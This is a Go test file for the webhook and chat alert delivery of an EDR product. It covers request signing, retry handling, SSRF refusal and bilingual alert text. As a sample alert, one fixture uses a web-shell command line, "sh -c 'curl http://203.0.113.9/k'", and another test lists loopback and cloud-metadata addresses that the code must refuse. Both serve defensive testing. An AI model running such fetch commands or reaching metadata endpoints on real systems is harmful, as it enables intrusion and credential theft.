package notify_test

import (
	"crypto/hmac"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/yagura-edr/yagura/internal/detection"
	"github.com/yagura-edr/yagura/internal/notify"
)

type call struct {
	header http.Header
	body   []byte
}

func receiver(t *testing.T, status int) (url string, calls chan call) {
	t.Helper()
	calls = make(chan call, 100)
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		calls <- call{r.Header, b}
		w.Header().Set("Location", "http://192.0.2.1/")
		w.WriteHeader(status)
		_, _ = io.WriteString(w, "said the receiver")
	}))
	t.Cleanup(s.Close)
	return s.URL, calls
}

func hook(t *testing.T, url string, edit func(*notify.WebhookTarget)) notify.Channel {
	t.Helper()
	target := notify.WebhookTarget{
		Name: "soc", URL: url, SecretFile: secretFile(t, "s3cret"), AllowLoopback: true, AllowHTTP: true,
		Voice: notify.Voice{Language: "both", PublicURL: "https://yagura.example.test"},
	}
	if edit != nil {
		edit(&target)
	}
	ch, err := notify.NewWebhook(target)
	if err != nil {
		t.Fatal(err)
	}
	return ch
}

func TestWebhookIsSigned(t *testing.T) {
	url, calls := receiver(t, http.StatusNoContent)
	if err := hook(t, url, nil).Deliver(t.Context(), []notify.Notice{webShell()}); err != nil {
		t.Fatal(err)
	}
	got := <-calls
	want := notify.Sign([]byte("s3cret"), got.header.Get(notify.HeaderTimestamp), got.body)
	if !hmac.Equal([]byte(got.header.Get(notify.HeaderSignature)), []byte(want)) {
		t.Errorf("signature %q; want %q", got.header.Get(notify.HeaderSignature), want)
	}
	var m struct {
		Version int
		Text    string
		Notices []struct {
			Key, Kind, Tenant, Severity, Link, Time string
			Title                                   struct{ En, Ja string }
			Hosts, Credits                          []string
		}
	}
	if err := json.Unmarshal(got.body, &m); err != nil {
		t.Fatal(err)
	}
	n := m.Notices[0]
	if m.Version != 1 || n.Key != "incident/i-1/critical" || n.Kind != "incident" || n.Severity != "critical" || n.Hosts[0] != "web-01" ||
		n.Link != "https://yagura.example.test/incidents/i-1" || n.Time != "2026-11-22T01:31:52Z" || n.Title.Ja == "" || len(n.Credits) != 1 {
		t.Errorf("body %s", got.body)
	}
	if strings.Contains(m.Text, "ご担当者様") || strings.Contains(m.Text, "送信専用") || !strings.Contains(m.Text, "発生日時") || !strings.Contains(m.Text, "When: ") {
		t.Errorf("text %q", m.Text)
	}
	// One more attempt of the same delivery carries the same delivery id.
	if err := hook(t, url, nil).Deliver(t.Context(), []notify.Notice{webShell()}); err != nil {
		t.Fatal(err)
	}
	if again := <-calls; again.header.Get(notify.HeaderDelivery) != got.header.Get(notify.HeaderDelivery) {
		t.Errorf("delivery id changed")
	}
}

// docs/format/webhook.md shows this vector; receivers test their code with it.
func TestSignatureVector(t *testing.T) {
	const want = "v1=0c4e1552881c9dec6362727676cd14b076c959201042522f8b6859fe22c70e30"
	if got := notify.Sign([]byte("s3cret"), "1795000000", []byte(`{"version":1}`)); got != want {
		t.Errorf("Sign = %s; want %s", got, want)
	}
}

func TestWebhookAnswers(t *testing.T) {
	for _, c := range []struct {
		status  int
		lasting bool
	}{{429, false}, {503, false}, {408, false}, {400, true}, {404, true}, {302, true}, {410, true}} {
		url, calls := receiver(t, c.status)
		err := hook(t, url, nil).Deliver(t.Context(), []notify.Notice{webShell()})
		if err == nil || errors.Is(err, notify.ErrPermanent) != c.lasting {
			t.Errorf("answer %d: %v; want lasting %v", c.status, err, c.lasting)
		}
		if len(calls) != 1 {
			t.Errorf("answer %d: %d calls; want 1, no redirect followed", c.status, len(calls))
		}
	}
}

// A configuration must not make the server call itself or a cloud's metadata service.
func TestWebhookDialsOnlyReceivers(t *testing.T) {
	url, calls := receiver(t, http.StatusOK)
	byName := strings.Replace(url, "127.0.0.1", "localhost", 1)
	for _, u := range []string{url, byName, "http://[::1]:1/", "http://[::ffff:127.0.0.1]:1/", "http://0.0.0.0:1/", "http://169.254.169.254/latest", "http://[fe80::1]:1/", "http://224.0.0.1:1/"} {
		err := hook(t, u, func(w *notify.WebhookTarget) { w.AllowLoopback = false }).Deliver(t.Context(), []notify.Notice{webShell()})
		if !errors.Is(err, notify.ErrPermanent) {
			t.Errorf("%s: %v; want a refusal", u, err)
		}
	}
	if err := hook(t, "http://169.254.169.254/latest", nil).Deliver(t.Context(), []notify.Notice{webShell()}); !errors.Is(err, notify.ErrPermanent) {
		t.Errorf("allow_loopback opened link-local addresses: %v", err)
	}
	if len(calls) != 0 {
		t.Errorf("%d calls came through", len(calls))
	}
	for _, u := range []string{"ftp://example.test/", "http://example.test/", "https://user:pw@example.test/", "https:///x", "://"} {
		if _, err := notify.NewWebhook(notify.WebhookTarget{Name: "x", URL: u}); err == nil {
			t.Errorf("NewWebhook(%q) was taken", u)
		}
	}
}

func TestWebhookErrorsDoNotShowTheURL(t *testing.T) {
	s := httptest.NewServer(http.NotFoundHandler())
	url := s.URL
	s.Close()
	err := hook(t, url+"/services/TOPSECRET", nil).Deliver(t.Context(), []notify.Notice{webShell()})
	if err == nil || strings.Contains(err.Error(), "TOPSECRET") {
		t.Errorf("error %v shows the path, which often is the receiver's secret", err)
	}
}

func TestHiddenHostsStayHidden(t *testing.T) {
	url, calls := receiver(t, http.StatusOK)
	ch := hook(t, url, func(w *notify.WebhookTarget) { w.Voice.HideHosts = true })
	if err := ch.Deliver(t.Context(), []notify.Notice{webShell()}); err != nil {
		t.Fatal(err)
	}
	if got := <-calls; strings.Contains(string(got.body), "web-01") {
		t.Errorf("host name in %s", got.body)
	}
}

// A chat got a business letter, twice, with none of what a person needs at three in the morning.
func TestChatSaysWhoDidWhatWhere(t *testing.T) {
	n := webShell()
	n.Hosts = []string{"web-01", "db-01"}
	n.Title = detection.Said{En: "A web service started a shell on web-01", Ja: "Web サービスからシェルの起動(web-01)"}
	n.Act = notify.Act{
		Host: "web-01", Addresses: []string{"192.0.2.7"}, User: "www-data", PID: 101, Path: "/usr/bin/dash", CommandLine: "sh -c 'curl http://203.0.113.9/k'" + strings.Repeat(" x", 400),
		Key: "h-1/p-1",
	}
	for lang, want := range map[string][]string{
		"en": {"[Yagura] critical: A web service", "Host: web-01 (192.0.2.7), db-01", "User: www-data", "Process: /usr/bin/dash (pid 101)", "Command line: sh -c 'curl http://203.0.113.9/k'", "When: 2026-11-22 10:31:52 JST (01:31:52 UTC)", "First: Isolate", "\nhttps://yagura.example.test/incidents/i-1"},
		"ja": {"【Yagura】緊急 (critical): Web サービス", "ホスト: web-01 (192.0.2.7)", "ユーザー: www-data", "プロセス: /usr/bin/dash (pid 101)", "10:31:52 JST (01:31:52 UTC)", "最初の対応: ", "\nhttps://yagura.example.test/incidents/i-1"},
	} {
		v := notify.Voice{Language: lang, PublicURL: "https://yagura.example.test", Zone: tokyo()}
		text := v.Chat([]notify.Notice{n})
		for _, w := range want {
			if !strings.Contains(text, w) {
				t.Errorf("%s: no %q in\n%s", lang, w, text)
			}
		}
		if other := map[string]string{"en": "発生", "ja": "When"}[lang]; strings.Contains(text, other) || len(text) > 1200 || strings.Count(text, "web-01") > 3 {
			t.Errorf("%s: %d bytes, says it in two languages or twice:\n%s", lang, len(text), text)
		}
		if mail := v.Body([]notify.Notice{n}); !strings.Contains(mail, "www-data") || !strings.Contains(mail, "192.0.2.7") || !strings.Contains(mail, "curl http://203.0.113.9/k") {
			t.Errorf("%s: the mail lacks the process:\n%s", lang, mail)
		}
	}
	// Without hosts nothing of them is told, in no sentence.
	url, calls := receiver(t, http.StatusOK)
	if err := hook(t, url, func(w *notify.WebhookTarget) { w.Voice.HideHosts = true }).Deliver(t.Context(), []notify.Notice{n}); err != nil {
		t.Fatal(err)
	}
	if body := string((<-calls).body); strings.Contains(body, "web-01") || strings.Contains(body, "192.0.2.7") || strings.Contains(body, "www-data") || !strings.Contains(body, "started a shell on a host") {
		t.Errorf("hide_hosts: %s", body)
	}
}

// What the previous release put into the outbox and sent is still what receivers know: no key of version 1 is gone.
func TestWebhookKeepsTheKeysOfVersion1(t *testing.T) {
	url, calls := receiver(t, http.StatusOK)
	if err := hook(t, url, nil).Deliver(t.Context(), []notify.Notice{webShell()}); err != nil {
		t.Fatal(err)
	}
	var m struct {
		Version any
		Text    any
		Notices []map[string]any
	}
	if err := json.Unmarshal((<-calls).body, &m); err != nil || m.Version != 1.0 || m.Text == nil {
		t.Fatalf("%v: %+v", err, m)
	}
	for _, key := range []string{"key", "kind", "tenant", "severity", "title", "summary", "todo", "hosts", "credits", "link", "time"} {
		if _, ok := m.Notices[0][key]; !ok {
			t.Errorf("the key %q of version 1 is gone", key)
		}
	}
	if _, ok := m.Notices[0]["process"]; ok {
		t.Error("a notice without a process has one")
	}
}
